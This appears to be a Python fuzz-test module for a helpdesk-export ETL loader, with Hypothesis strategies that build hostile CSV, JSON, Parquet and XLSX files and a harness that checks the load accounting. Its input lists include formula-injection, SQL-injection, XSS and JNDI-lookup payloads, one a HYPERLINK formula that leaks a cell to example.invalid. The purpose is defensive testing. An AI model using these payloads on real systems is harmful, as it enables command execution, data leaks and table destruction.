"""Strategies for hostile exports and mappings, and the harness that loads them.

The harness runs the real load path (``prepare_file`` then ``merge``) into one in-memory
warehouse per test, the same code ``python -m etl load`` runs minus the file swap, which
the CLI tests and tests/reliability cover. Every load must end in a ``LoadReport`` whose
accounting balances and matches what reached the tables, or in ``UnusableInput`` with one
line naming the file; anything else is a bug.

Inputs that hit a bug already reported (see tests/fuzz/test_regressions.py) are kept out
of these strategies, so each fuzz test keeps guarding everything else: lone UTF-16
surrogates in JSON strings (KNOWN: json-lone-surrogate), JSON nested deeper than
``MAX_JSON_DEPTH`` (KNOWN: json-deep-nesting), JSON whose objects all lack keys (KNOWN:
ndjson-empty-objects) and Parquet Duration columns (KNOWN: parquet-duration). Widen them
when those tests pass.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb
import polars as pl
from hypothesis import settings
from hypothesis import strategies as st

from etl.canonical import TABLES
from etl.errors import UnusableInput
from etl.mapping import Mapping
from etl.prepare import prepare_file
from etl.upsert import LoadReport, merge
from warehouse.schema import migrate

FUZZ = settings.get_profile("long" if os.environ.get("HYPOTHESIS_PROFILE") == "long" else "fuzz-ci")
MAX_JSON_DEPTH = 60

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
)
SQL = (
    "x' OR '1'='1",
    "'); DROP TABLE tickets; --",
    '"; DROP TABLE tickets; --',
    "1; SELECT * FROM load_runs",
    "' UNION SELECT raw, reason FROM quarantine --",
    "$f_channel",
    "?",
    "%s",
    "{0}",
    "\\'",
    "__row",
)
SCRIPT = (
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
    "[x](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
)
TIMESTAMPS = (
    "2026-01-05T09:00:00Z",
    "2026-01-05 10:30:00",
    "9999-12-31T23:59:59Z",
    "0001-01-01",
    "-99999999999999999999",
    "1e300",
    "99999999999999999",
    "2026-02-30",
    "+275760-09-13",
    "NaN",
    "inf",
    "-inf",
    "0",
    "-1",
    "1700000000000",
    "1700000000000000000",
    "2026-01-05T09:00:00+25:00",
    "2026-13-01",
    "24:00",
    "2026-01-05 09:00:00 Mars/Phobos",
    "31/12/1999 23:59",
    "12/31/1999",
    "Mon Jan 05 09:00:00 +0000 2026",
    "2026-01-05T09:00:00.123456789Z",
    "１９９９-０１-０１",
    "2026-W02-1",
    "1/1/70",
    "2038-01-19T03:14:08Z",
    "1969-12-31T23:59:59Z",
)
NUMBERS = (
    "1e400",
    "-0",
    "0x10",
    "1_000",
    "１２",
    "99999999999999999999999",
    "3.5",
    " 5 ",
    "+5",
    "5",
)
CANONICAL_VALUES = (
    "open", "solved", "SOLVED", "urgent", "chat", "email", "customer", "agent", "bot", "status",
    "T1", "T2", "C1", "A1", "en", "zh", "true", "no", "3", "[]", '["a", "b"]', "a,b",
)  # fmt: skip
ODD_TEXT = (
    "",
    " ",
    "\u200b",
    "\ufeff",
    "你好，我的钱包被盗了",
    "Привет, где мои деньги",
    "ñandú",
    "😀",
    "a\u2028b",
    "a\u0301",
    "\x7f",
    "\x1b[31mred",
    "null",
    "N/A",
    "line one\nline two",
    'say "hi"',
    "a,b;c\td|e",
)
NASTY = FORMULAS + SQL + SCRIPT + TIMESTAMPS + NUMBERS + CANONICAL_VALUES + ODD_TEXT

# Text without lone surrogates (a known bug in JSON input, see the module docstring).
TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=24)
CELL = st.one_of(
    st.sampled_from(NASTY),
    TEXT,
    st.integers(-(10**20), 10**20).map(str),
    st.integers(1, 4000).map(lambda n: "x" * n),
)
HUGE_CELL = st.sampled_from((70_000, 300_000)).map(lambda n: ("long field " * n)[:n])


def only_empty_objects(data: bytes) -> bool:
    """JSON made of nothing but ``{}`` objects (KNOWN: ndjson-empty-objects)."""
    return re.fullmatch(rb"[\s\[,\]]*(?:\{\s*\}[\s\[,\]]*)+(?:null)?\s*", data) is not None


def header_names(kind: str) -> st.SearchStrategy[str]:
    """Column names: canonical ones as written by helpdesks, and hostile ones."""
    names = TABLES[kind].names
    spelled = [n for name in names for n in (name, name.upper(), name.replace("_", " ").title())]
    return st.one_of(
        st.sampled_from(spelled), st.sampled_from(SQL + SCRIPT + FORMULAS + ("", " ")), TEXT
    )


@st.composite
def headers(draw: st.DrawFn, kind: str) -> list[str]:
    """A header row, usually with the required columns (so rows get validated), dups allowed."""
    spec = TABLES[kind]
    names = list(spec.required) if draw(st.integers(0, 4)) else []
    names += draw(st.lists(header_names(kind), max_size=6))
    if names and draw(st.integers(0, 5)) == 0:
        names.append(draw(st.sampled_from(names)))  # a duplicated column
    names = draw(st.permutations(names)) if names else [draw(header_names(kind))]
    return list(names)


@st.composite
def table_rows(draw: st.DrawFn, width: int, max_rows: int = 8) -> list[list[str]]:
    """Rows of cells, mostly ``width`` wide, sometimes ragged, rarely with a huge field."""
    rows = []
    for _ in range(draw(st.integers(0, max_rows))):
        size = width if draw(st.integers(0, 5)) else draw(st.integers(0, width + 2))
        rows.append(draw(st.lists(CELL, min_size=size, max_size=size)))
    if rows and draw(st.integers(0, 15)) == 0:
        row = rows[draw(st.integers(0, len(rows) - 1))]
        if row:
            row[draw(st.integers(0, len(row) - 1))] = draw(HUGE_CELL)
    return rows


@dataclass(frozen=True)
class Table:
    """A header and rows as they would be exported, before rendering to a file format."""

    header: list[str]
    rows: list[list[str]]


@st.composite
def tables(draw: st.DrawFn, kind: str) -> Table:
    header = draw(headers(kind))
    return Table(header, draw(table_rows(len(header))))


ENCODINGS = (
    "utf-8",
    "utf-8-sig",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "gb18030",
    "cp1252",
    "koi8-r",
    "latin-1",
    "mixed",
)


def encode(text: str, encoding: str) -> bytes:
    """``text`` in ``encoding`` (unencodable characters replaced); "mixed" varies per line."""
    if encoding != "mixed":
        return text.encode(encoding, errors="replace")
    codecs = ("utf-8", "gb18030", "cp1252")
    lines = text.splitlines(keepends=True)
    return b"".join(line.encode(codecs[i % 3], errors="replace") for i, line in enumerate(lines))


@st.composite
def delimited_bytes(draw: st.DrawFn, table: Table) -> bytes:
    """CSV/TSV with mixed line endings, broken quoting, cut-off fields and odd encodings."""
    delimiter = draw(st.sampled_from((",", ";", "\t", "|")))
    quoting = draw(st.sampled_from(("minimal", "all", "none")))
    lines = []
    for record in [table.header, *table.rows]:
        if quoting == "none":
            line = delimiter.join(record)
        else:
            buffer = io.StringIO()
            mode = csv.QUOTE_ALL if quoting == "all" else csv.QUOTE_MINIMAL
            csv.writer(buffer, delimiter=delimiter, quoting=mode, lineterminator="").writerow(
                record
            )
            line = buffer.getvalue()
        lines.append(line + draw(st.sampled_from(("\n", "\r\n", "\r"))))
    text = "".join(lines)
    damage = draw(st.sampled_from(("none", "none", "stray quote", "cut", "no final newline")))
    if text and damage == "stray quote":
        at = draw(st.integers(0, len(text)))
        text = text[:at] + '"' + text[at:]
    elif text and damage == "cut":
        text = text[: draw(st.integers(1, len(text)))]
    elif damage == "no final newline":
        text = text.rstrip("\r\n")
    return encode(text, draw(st.sampled_from(ENCODINGS)))


JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**30), 10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    CELL,
)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=12,
)


def nested(value: object, depth: int) -> object:
    for _ in range(depth):
        value = [value]
    return value


def render_object(pairs: list[tuple[str, object]]) -> str:
    """A JSON object written by hand, so keys may repeat (valid JSON, odd exports do it)."""
    return "{" + ", ".join(f"{json.dumps(k)}: {json.dumps(v)}" for k, v in pairs) + "}"


@st.composite
def json_records(draw: st.DrawFn, table: Table) -> list[str]:
    """Each row as a JSON object text (keys from the header, values text or any JSON),
    with the odd item that is not an object at all."""
    items = []
    for row in table.rows:
        if draw(st.integers(0, 9)) == 0:
            items.append(json.dumps(draw(JSON_VALUES)))
            continue
        pairs: list[tuple[str, object]] = []
        for key, cell in zip(table.header, row, strict=False):
            value = draw(JSON_VALUES) if draw(st.integers(0, 6)) == 0 else cell
            if draw(st.integers(0, 12)) == 0:
                value = nested(value, draw(st.integers(1, MAX_JSON_DEPTH)))
            pairs.append((key, value))
        items.append(render_object(pairs))
    return items


@st.composite
def json_bytes(draw: st.DrawFn, table: Table) -> bytes:
    """A JSON array or NDJSON (with blank, broken and non-object lines), in some encoding."""
    items = draw(json_records(table))
    if draw(st.booleans()):
        text = "[" + ",\n".join(items) + "]"
        if draw(st.integers(0, 6)) == 0:
            text = text[: draw(st.integers(1, len(text)))]
    else:
        lines = list(items)
        for _ in range(draw(st.integers(0, 2))):
            junk = draw(st.sampled_from(("", "   ", "{", "[1, 2]", '"text"', "null", "}{")))
            lines.insert(draw(st.integers(0, len(lines))), junk)
        if not any(line.startswith('{"') for line in lines):
            lines.insert(0, render_object([(k, "") for k in table.header]))
        ending = draw(st.sampled_from(("\n", "\r\n")))
        text = ending.join(lines)
    return encode(text, draw(st.sampled_from(("utf-8", "utf-8-sig", "utf-16", "gb18030"))))


_DT = st.datetimes(min_value=datetime(1, 1, 2), max_value=datetime(9999, 12, 30))


def _parquet_column(kind: str, name: str, n: int, draw: st.DrawFn) -> pl.Series:
    values = {
        "text": lambda: st.lists(st.none() | CELL, min_size=n, max_size=n),
        "int": lambda: st.lists(
            st.none() | st.integers(-(2**63), 2**63 - 1), min_size=n, max_size=n
        ),
        "float": lambda: st.lists(st.none() | st.floats(), min_size=n, max_size=n),
        "bool": lambda: st.lists(st.none() | st.booleans(), min_size=n, max_size=n),
        "datetime": lambda: st.lists(st.none() | _DT, min_size=n, max_size=n),
        "date": lambda: st.lists(st.none() | st.dates(), min_size=n, max_size=n),
        "duration": lambda: st.lists(
            st.none() | st.timedeltas(timedelta(days=-9999), timedelta(days=9999)),
            min_size=n,
            max_size=n,
        ),
        "list": lambda: st.lists(st.none() | st.lists(TEXT, max_size=3), min_size=n, max_size=n),
        "binary": lambda: st.lists(st.none() | st.binary(max_size=12), min_size=n, max_size=n),
    }
    if kind == "null":
        return pl.Series(name, [None] * n)
    if kind == "struct":
        return pl.Series(name, [{"a": draw(TEXT), "b": draw(st.integers(0, 9))} for _ in range(n)])
    data = draw(values[kind.removesuffix("_tz")]())
    if kind == "datetime_tz":
        return pl.Series(name, data, dtype=pl.Datetime("us")).dt.replace_time_zone("UTC")
    if kind == "categorical":
        return pl.Series(name, data, dtype=pl.Categorical)
    return pl.Series(name, data)


# "duration" is left out: a Duration column is a known bug (KNOWN: parquet-duration).
PARQUET_TYPES = (
    "text", "text", "int", "float", "bool", "datetime", "datetime_tz", "date", "list", "binary",
    "null", "struct",
)  # fmt: skip


@st.composite
def parquet_bytes(draw: st.DrawFn, table: Table) -> bytes:
    """A Parquet file whose columns carry the header's names and any Parquet type."""
    n = len(table.rows)
    columns, seen = [], set()
    for position, name in enumerate(table.header):
        unique = name if name not in seen else f"{name}_{position}"
        seen.add(unique)
        kind = draw(st.sampled_from(PARQUET_TYPES))
        if kind == "text":
            cells = [row[position] if position < len(row) else None for row in table.rows]
            columns.append(pl.Series(unique, cells, dtype=pl.String))
        else:
            columns.append(_parquet_column(kind, unique, n, draw))
    buffer = io.BytesIO()
    pl.DataFrame(columns).write_parquet(buffer)
    data = buffer.getvalue()
    if draw(st.integers(0, 8)) == 0:
        data = data[: draw(st.integers(4, len(data)))]
    return data


@st.composite
def xlsx_bytes(draw: st.DrawFn, table: Table) -> bytes:
    """A workbook whose first sheet holds the table, with numbers, dates and formulas mixed in."""
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "nan_inf_to_errors": True})
    sheet = book.add_worksheet(draw(st.sampled_from(("Sheet1", "Tickets", "数据"))))
    dates = book.add_format({"num_format": "yyyy-mm-dd hh:mm"})
    for r, record in enumerate([table.header, *table.rows]):
        for c, cell in enumerate(record):
            how = draw(st.integers(0, 9))
            if how == 0:
                sheet.write_number(r, c, draw(st.floats()))
            elif how == 1:
                day = draw(
                    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 1, 1))
                )
                sheet.write_datetime(r, c, day, dates)
            elif how == 2:
                sheet.write_formula(r, c, draw(st.sampled_from(("=1/0", "=A1&B1", "=NOW()"))))
            elif how == 3:
                sheet.write_boolean(r, c, draw(st.booleans()))
            else:
                sheet.write_string(r, c, cell[:32_000])
    book.close()
    data = buffer.getvalue()
    if draw(st.integers(0, 8)) == 0:
        data = data[: draw(st.integers(4, len(data)))]
    return data


FORMATS = ("csv", "json", "parquet", "xlsx")


@st.composite
def export_files(draw: st.DrawFn, kind: str) -> tuple[str, bytes]:
    """(file name, bytes) of an export of ``kind`` in any supported format, hostile throughout."""
    table = draw(tables(kind))
    fmt = draw(st.sampled_from(FORMATS))
    render = {
        "csv": delimited_bytes,
        "json": json_bytes,
        "parquet": parquet_bytes,
        "xlsx": xlsx_bytes,
    }[fmt]
    # The extension is often wrong on purpose: the reader looks at the content.
    suffix = draw(st.sampled_from((fmt, fmt, "csv", "txt", "json")))
    return f"{kind}-export.{suffix}", draw(render(table))


# --- the harness ------------------------------------------------------------------------

CONTENT_TABLES = tuple(spec.table for spec in TABLES.values())


class Harness:
    """One in-memory warehouse; every load the test makes is merged into it and checked."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.con = duckdb.connect()
        self.con.execute("SET TimeZone = 'UTC'")
        migrate(self.con)

    def counts(self) -> dict[str, int]:
        return {
            t: self.con.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0]
            for t in (*CONTENT_TABLES, "load_runs", "quarantine")
        }

    def write(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(data)
        return path

    def load(
        self, path: Path, kind: str, mapping: Mapping | None = None
    ) -> LoadReport | UnusableInput:
        """Load ``path``; return its report or the UnusableInput; check every promise on the way."""
        mapping = mapping or Mapping(kind=kind)
        before = self.counts()
        try:
            prepared = prepare_file(path, kind, mapping, mapping.source)
        except UnusableInput as err:
            assert_one_clear_line(err, path.name, mapping.name)
            assert self.counts() == before
            return err
        report = merge(self.con, prepared, datetime.now(UTC))
        check_report(self, report, prepared.spec.table, before, mapping.transform is None)
        again = merge(self.con, prepared, datetime.now(UTC))
        # Loading the same file twice changes nothing (DESIGN section 3).
        assert (again.inserted, again.updated) == (0, 0), again
        assert again.unchanged == report.rows_read - report.quarantined
        return report


def assert_one_clear_line(err: UnusableInput, *names: str) -> None:
    """An UnusableInput message: one non-empty line naming the file (or the mapping)."""
    message = str(err)
    assert message.strip(), "an empty error message"
    assert "\n" not in message and "\r" not in message, message
    assert any(name and name in message for name in names), message


def check_report(
    harness: Harness, report: LoadReport, table: str, before: dict[str, int], one_per_row: bool
) -> None:
    """The accounting holds, and the tables changed exactly as the report says.

    Without a transform each file record is quarantined at most once (a transform may
    turn one source row into several records, which then share its row number).
    """
    assert report.balanced, report
    assert min(report.inserted, report.updated, report.unchanged, report.quarantined) >= 0
    after = harness.counts()
    assert after[table] - before[table] == report.inserted
    assert after["load_runs"] - before["load_runs"] == 1
    assert after["quarantine"] - before["quarantine"] == report.quarantined
    stored = harness.con.execute(
        "SELECT rows_read, inserted, updated, unchanged, quarantined FROM load_runs WHERE run_id = ?",
        [report.run_id],
    ).fetchone()
    assert stored == (
        report.rows_read,
        report.inserted,
        report.updated,
        report.unchanged,
        report.quarantined,
    )
    rows = harness.con.execute(
        "SELECT count(DISTINCT row_number), count(*) FROM quarantine WHERE run_id = ?",
        [report.run_id],
    ).fetchone()
    assert rows[1] == report.quarantined
    if one_per_row:
        assert rows[0] == rows[1], "a quarantined row counted twice"
